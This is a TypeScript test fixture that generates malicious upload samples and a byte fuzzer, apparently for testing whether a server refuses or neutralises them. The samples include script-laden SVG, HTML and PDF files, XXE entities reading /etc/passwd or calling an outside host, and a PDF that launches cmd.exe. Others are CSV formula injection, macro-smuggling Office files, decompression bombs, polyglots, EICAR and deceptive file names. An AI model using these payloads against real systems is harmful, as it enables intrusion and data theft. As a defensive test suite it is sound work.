import { createHash } from "node:crypto"
import { deflateSync } from "node:zlib"
import { compound, docx, honestFiles, pdf, svg, utf8, xlsx, zip } from "#tests/support/honestFiles.ts"

/** A malicious file. `fate`: the server refuses to store it, or stores it in a form that does no harm. */
export interface BadFile {
  readonly title: string
  readonly name: string
  readonly bytes: Uint8Array<ArrayBuffer>
  readonly fate: "refused" | "neutralised"
}

/** A small valid file of a kind; empty bytes for an unknown kind. */
export const honest = (kind: string) => honestFiles[kind] ?? new Uint8Array()
const joined = (...parts: ReadonlyArray<Uint8Array>): Uint8Array<ArrayBuffer> => Uint8Array.from(Buffer.concat(parts))

const crcTable = Array.from({ length: 256 }, (_, byte) => {
  let value = byte
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1
  return value >>> 0
})
const crc = (bytes: Uint8Array) => {
  let value = 0xffffffff
  for (const byte of bytes) value = (crcTable[(value ^ byte) & 0xff] ?? 0) ^ (value >>> 8)
  return (value ^ 0xffffffff) >>> 0
}
const pngChunk = (kind: string, data: Uint8Array) => {
  const body = Buffer.concat([Buffer.from(kind, "latin1"), data])
  const chunk = Buffer.alloc(body.length + 8)
  chunk.writeUInt32BE(data.length)
  body.copy(chunk, 4)
  chunk.writeUInt32BE(crc(body), body.length + 4)
  return chunk
}
const pngHead = (width: number, height: number) => {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head[8] = 8
  return pngChunk("IHDR", head)
}
const pngMark = Buffer.from("89504e470d0a1a0a", "hex")

/** A decompression bomb: a few kilobytes of PNG whose header announces `side` × `side` pixels. */
const hugePng = (side: number) =>
  joined(
    pngMark,
    pngHead(side, side),
    pngChunk("IDAT", deflateSync(Buffer.alloc(4 * side))),
    pngChunk("IEND", new Uint8Array())
  )

/** One pixel and 250,000 frames of the shortest kind. */
const endlessGif = () => {
  const head = Buffer.from(
    "474946383961010001008000000000 00ffffff21ff0b4e45545343415045322e30030100000000".replace(" ", ""),
    "hex"
  )
  const frame = Buffer.from("2c000000000100010000020244010000".slice(0, 30), "hex")
  return joined(head, Buffer.alloc(frame.length * 250_000, frame), Buffer.from("3b", "hex"))
}

/** A zip whose directory gives a false uncompressed size for every entry. */
const lyingSizes = (archive: Uint8Array, size: number): Uint8Array<ArrayBuffer> => {
  const made = Uint8Array.from(archive)
  const view = new DataView(made.buffer)
  for (let at = 0; at < made.length - 46; at += 1) {
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, size, true)
  }
  return made
}

const entities = (root: string) =>
  `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${String.fromCharCode(97 + n)};`.repeat(10)}">`).join("")}]>`
const outside = (root: string) =>
  `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "https://ailleurs.example/x">]>`

/** A script that shows in several ways that it ran: a dialog, a request and a new title. Tests look for these. */
const shout = "alert('ouvert');fetch('/api/me');document.title='pris'"
const page = `<!doctype html><html><body onload="${shout}"><script>${shout}</script></body></html>`

const eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
const programme = joined(Buffer.from("4d5a90000300000004000000ffff0000b800000000000000", "hex"), Buffer.alloc(400))

const nested = () => {
  let inside = zip({ "a.txt": "fond" })
  for (let depth = 0; depth < 40; depth += 1) inside = zip({ "dedans.zip": inside })
  return inside
}
/** The beginning of Russ Cox's zip that contains itself, enough for a scanner to recognise it. */
const quine = joined(
  Buffer.from("504b0304140000000800088f583f000000000000000000000000040000007a2e7a6970", "hex"),
  Buffer.alloc(300, 0x42)
)

type Bytes = Uint8Array<ArrayBuffer>
/** Large files are created only when `bytes` is read. */
const fated =
  (fate: BadFile["fate"]) =>
  (title: string, name: string, bytes: Bytes | (() => Bytes)): BadFile => {
    let made: Bytes | undefined
    return {
      title,
      name,
      fate,
      get bytes() {
        return (made ??= typeof bytes === "function" ? bytes() : bytes)
      }
    }
  }
const neutral = fated("neutralised")
const refused = fated("refused")

const types = "[Content_Types].xml"
const docm =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'

const renamedMacro = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/innocent.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`
const macroRelationship =
  '<Relationships><Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vba&#80;ro&#x6A;ect" Target="innocent.bin"/></Relationships>'
const odtParts = { mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<a/>" }

/** Entry names so long that the zip's directory is larger than that of any valid file. */
const longList = () => {
  const parts: Record<string, string | Uint8Array> = { "word/vbaProject.bin": honest("xls") }
  for (let number = 0; number < 90; number += 1) parts[`word/${String(number).padEnd(60_000, "x")}`] = "x"
  return docx("<w:p/>", parts)
}

/** A zip directory whose second entry is invalid, so that the entries after it cannot be listed. */
const cutList = () => {
  const bytes = Buffer.from(docx("<w:p/>", { "word/innocent.bin": honest("xls") }))
  const list = bytes.readUInt32LE(bytes.length - 6)
  const second = bytes.indexOf("PK\u0001\u0002", list + 4, "latin1")
  bytes.writeUInt32LE(0, second)
  return Uint8Array.from(bytes)
}

/** One file for each way that files have been used to attack the people who open them. */
export const badFiles = (): ReadonlyArray<BadFile> => [
  // Scripts.
  neutral("a picture with a script", "logo.svg", svg(`<script>${shout}</script>`)),
  neutral("a picture with a handler", "survol.svg", svg(`<g onload="${shout}" onclick="${shout}"/>`)),
  neutral(
    "a picture with a page inside",
    "page.svg",
    svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${shout}"/></foreignObject>`)
  ),
  neutral(
    "a picture that fetches",
    "dehors.svg",
    svg('<image href="https://ailleurs.example/x.png"/><use href="https://ailleurs.example/x.svg#a"/>')
  ),
  neutral("a picture of entities", "bombe.svg", svg("&j;", entities("svg"))),
  neutral("a picture that reads files", "fichier.svg", svg("&x;&y;", outside("svg"))),
  refused("a page called a picture", "page2.svg", utf8(page.replace("<body", "<body><svg></svg"))),
  refused(
    "a page with a picture in a comment",
    "page3.svg",
    utf8(`<html><!-- <svg> --><script>${shout}</script></html>`)
  ),
  neutral("a page called a note", "note.txt", utf8(page)),
  neutral("a page called a table", "tableau.csv", utf8(page)),
  refused("a page", "page.html", utf8(page)),
  refused("a page called a pdf", "page.pdf", utf8(page)),
  neutral(
    "a pdf with a script",
    "script.pdf",
    pdf(
      "Bonjour",
      `/OpenAction<</S/JavaScript/JS(app.alert\\('ouvert'\\))>>/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>`
    )
  ),
  neutral("a pdf that starts a program", "lance.pdf", pdf("Bonjour", "/OpenAction<</S/Launch/F(cmd.exe)>>")),
  neutral(
    "a pdf that sends a form",
    "envoi.pdf",
    pdf("Bonjour", "/OpenAction<</S/SubmitForm/F(https://ailleurs.example/)>>")
  ),
  neutral(
    "a pdf that opens an address",
    "adresse.pdf",
    pdf("Bonjour", "/OpenAction<</S/URI/URI(javascript:alert\\('ouvert'\\))>>")
  ),
  neutral(
    "a pdf with a file in it",
    "porteur.pdf",
    pdf("Bonjour", "/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)>>]>>>>")
  ),
  // Polyglots: two file types in one.
  neutral("a pdf that is an archive too", "double.pdf", joined(pdf(), zip({ "a.js": shout }))),
  neutral(
    "a picture that is a script too",
    "double.gif",
    joined(utf8("GIF89a/*"), honest("gif").subarray(8), utf8(`*/=1;${shout}`))
  ),
  neutral("a picture that is a page too", "double.jpg", joined(honest("jpg"), utf8(page))),
  refused("a page that is a pdf too", "double2.pdf", joined(utf8(page), pdf())),
  refused("an archive that is a text too", "double.docx", joined(utf8("#!/bin/sh\n"), honest("docx"))),
  refused("a program called a pdf", "programme.pdf", programme),
  refused("a program called a text", "programme.doc", programme),
  refused("a pdf called a picture", "papier.png", honest("pdf")),
  refused("a text called a workbook", "texte.xlsx", honest("docx")),
  refused("an installer called a text", "installe.doc", compound("\u0005SummaryInformation")),
  refused("a workbook called a text", "classeur.doc", honest("xls")),
  refused("a picture that ends after its mark and goes on as a program", "suite.txt", joined(honest("png"), programme)),
  refused(
    "bytes that say they are a text in two bytes a letter",
    "large.txt",
    joined(Uint8Array.from([0xff, 0xfe]), programme)
  ),
  // Macros.
  refused("a text of macros under the name of one without", "macro.docx", docx("<w:p/>", { [types]: docm })),
  refused("a text with macros inside", "cache.docx", docx("<w:p/>", { "word/vbaProject.bin": honest("xls") })),
  refused(
    "a text whose macros have another name, told by its types",
    "renomme.docx",
    docx("<w:p/>", { [types]: renamedMacro, "word/innocent.bin": honest("xls") })
  ),
  refused(
    "a text whose macros have another name, told by a relationship in letters written as numbers",
    "relie.docx",
    docx("<w:p/>", { "word/_rels/document.xml.rels": macroRelationship, "word/innocent.bin": honest("xls") })
  ),
  refused(
    "a text whose types are told in another encoding",
    "utf16.docx",
    docx("<w:p/>", {
      [types]: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(renamedMacro, "utf16le")]),
      "word/innocent.bin": honest("xls")
    })
  ),
  refused("a text with macros behind a list of five megabytes", "liste.docx", longList()),
  refused("a text whose list ends in the middle", "coupe.docx", cutList()),
  refused("a text of another office with a script", "script.odt", zip({ ...odtParts, "Scripts/python/a.py": "1" }, 0)),
  refused("a workbook with macros inside", "cache.xlsx", xlsx("", { "xl/vbaProject.bin": honest("xls") })),
  neutral("a workbook with macros that says so", "dit.xlsm", honest("xlsm")),
  neutral(
    "a text that fetches a template",
    "modele.docx",
    docx("<w:p/>", {
      "word/_rels/settings.xml.rels":
        '<Relationships><Relationship Target="https://ailleurs.example/x.dotm" TargetMode="External" Type="attachedTemplate"/></Relationships>'
    })
  ),
  neutral(
    "a rich text with an object",
    "objet.rtf",
    utf8("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata d0cf11e0}}Bonjour\\par}")
  ),
  neutral(
    "a table of formulas",
    "formules.csv",
    utf8('=cmd|"/c calc"!A1;+1+1;@SUM(1);-2\n=HYPERLINK("https://ailleurs.example";"ici")\n')
  ),
  // Decompression bombs.
  neutral("a bomb in a text", "bombe.docx", () => docx(`<w:p><w:t>${" ".repeat(36_000_000)}</w:t></w:p>`)),
  neutral("a text that says it is 4 GB", "ment.docx", lyingSizes(honest("docx"), 0xfffffff0)),
  neutral("a text that says it is empty", "vide.docx", lyingSizes(honest("docx"), 0)),
  neutral("a text of ten thousand parts", "parts.docx", () =>
    docx("<w:p/>", Object.fromEntries(Array.from({ length: 10_000 }, (_, n) => [`p${n}`, ""])), 0)
  ),
  neutral(
    "a text of entities",
    "entites.docx",
    docx("<w:p/>", { "word/document.xml": `${entities("w:document")}<w:document><w:p>&j;</w:p></w:document>` })
  ),
  neutral(
    "a text that reads files",
    "lecture.docx",
    docx("<w:p/>", {
      "word/document.xml": `${outside("w:document")}<w:document><w:p><w:t>&x;</w:t></w:p></w:document>`
    })
  ),
  neutral(
    "a workbook of entities",
    "entites.xlsx",
    xlsx("", { "xl/sharedStrings.xml": `${entities("sst")}<sst><si><t>&j;</t></si></sst>` })
  ),
  neutral(
    "a workbook whose last cell is far away",
    "loin.xlsx",
    xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
  ),
  neutral("a workbook of four hundred thousand cells", "cases.xlsx", () =>
    xlsx(`<row r="1">${"<c><v>1</v></c>".repeat(400_000)}</row>`)
  ),
  neutral("a text ten thousand tags deep", "profond.docx", docx("<w:p>".repeat(10_000))),
  neutral("a rich text ten thousand groups deep", "profond.rtf", utf8(`{\\rtf1 ${"{".repeat(10_000)}`)),
  refused("archives in archives called a text", "boites.docx", nested),
  refused("an archive that holds itself", "miroir.docx", quine),
  refused("an archive", "archive.zip", zip({ "a.txt": "a" })),
  neutral("a picture of 50,000 times 50,000 points", "immense.png", () => hugePng(50_000)),
  neutral("a picture of a million pictures", "film.gif", endlessGif),
  neutral(
    "a picture that lies about its size",
    "ment.jpg",
    (() => {
      const made = Uint8Array.from(honest("jpg"))
      const frame = Buffer.from(made.buffer).indexOf(Buffer.from([0xff, 0xc0]))
      if (frame > 0) made.set([0xff, 0xff, 0xff, 0xff], frame + 5)
      return made
    })()
  ),
  neutral(
    "a pdf whose pages hold each other",
    "boucle.pdf",
    utf8(
      "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 99999999>>endobj\ntrailer<</Root 1 0 R>>"
    )
  ),
  neutral(
    "a pdf of one endless stream",
    "flux.pdf",
    utf8(`%PDF-1.7\n1 0 obj<</Length 999999999>>stream\n${"q ".repeat(20_000)}`)
  ),
  neutral(
    "a pdf with a page larger than a country",
    "pays.pdf",
    utf8(new TextDecoder().decode(pdf()).replace("[0 0 200 100]", "[0 0 9e9 9e9]"))
  ),
  // Truncated files.
  ...["docx", "xlsx", "pptx", "odt"].map((kind) =>
    refused(`a cut ${kind}`, `coupe.${kind}`, honest(kind).slice(0, 60))
  ),
  ...["pdf", "png", "jpg", "gif", "webp"].map((kind) =>
    neutral(`a cut ${kind}`, `coupe.${kind}`, honest(kind).slice(0, Math.max(32, honest(kind).length - 30)))
  ),
  refused("a text of nothing but zeros", "zeros.txt", new Uint8Array(4_096)),
  // The EICAR test file, which every virus scanner detects.
  refused("the test virus", "eicar.txt", utf8(eicar)),
  refused("the test virus as a program", "eicar.com", utf8(eicar)),
  // Misleading names.
  refused("a program with two extensions", "facture.pdf.exe", programme),
  refused("a program with two extensions the other way", "facture.exe.pdf", programme),
  neutral("an honest pdf with two extensions", "facture.exe.pdf", honest("pdf")),
  refused("a name with a zero", "facture.pdf\u0000.exe", honest("pdf")),
  refused("a name with a zero before an honest end", "facture.exe\u0000.pdf", honest("pdf")),
  refused("a name that reads from right to left", "facture\u202efdp.exe", programme),
  refused("a name that reads from right to left with an honest end", "facture\u202eexe.pdf", honest("pdf")),
  refused("a name that leads upwards", "../../etc/passwd.txt", honest("txt")),
  refused("a name of a device", "CON.txt", honest("txt")),
  refused("a name that ends in a dot", "facture.pdf.", honest("pdf")),
  refused("a name of what nobody sees", "\u200b\u2060.pdf", honest("pdf")),
  neutral("a name of 255 bytes", `${"é".repeat(125)}.pdf`, honest("pdf")),
  neutral("a name of families", "👩‍👩‍👧‍👦🇫🇷 frais.pdf", honest("pdf")),
  neutral("a name of loose accents", "Releve\u0301 d\u2019e\u0301te\u0301.pdf", honest("pdf"))
]

/** Returns a generator of whole numbers below a bound: pseudo-random, and the same in every run for the same seed. */
export const randomFrom = (seed: string) => {
  let state = createHash("sha256").update(seed).digest()
  let at = 0
  return (below: number): number => {
    if (at + 4 > state.length) {
      state = createHash("sha256").update(state).digest()
      at = 0
    }
    const value = state.readUInt32LE(at)
    at += 4
    return value % below
  }
}

const signatures = [
  "%PDF-1.7\n",
  "MZ",
  "\u007fELF",
  "PK\u0003\u0004",
  "<html><script>",
  "GIF89a",
  "#!/bin/sh\n",
  "\u0000\u0000\u0000"
]

/** A valid file with a few bytes changed, removed, repeated or moved. */
export const mutantOf = (honestBytes: Uint8Array, kind: string, number: number): Uint8Array<ArrayBuffer> => {
  const random = randomFrom(`${kind} ${number}`)
  let bytes = Buffer.from(honestBytes)
  for (let change = random(6); change >= 0; change -= 1) {
    const at = random(Math.max(1, bytes.length))
    const length = random(40) + 1
    const piece = bytes.subarray(at, at + length)
    switch (random(9)) {
      case 0:
        bytes = bytes.subarray(0, at)
        break
      case 1:
        bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + length)])
        break
      case 2:
        bytes = Buffer.concat([bytes.subarray(0, at), piece, piece, bytes.subarray(at)])
        break
      case 3:
        Buffer.from(signatures[random(signatures.length)] ?? "", "latin1").copy(bytes, random(3) === 0 ? 0 : at)
        break
      case 4:
        bytes.fill([0, 0xff, 0x7f, 0x80][random(4)] ?? 0, at, Math.min(bytes.length, at + length))
        break
      case 5:
        bytes = Buffer.concat([bytes, Buffer.from(Array.from({ length }, () => random(256)))])
        break
      default:
        if (bytes.length > 0) bytes[at] = random(3) === 0 ? (bytes[at] ?? 0) ^ (1 << random(8)) : random(256)
    }
  }
  return Uint8Array.from(bytes)
}
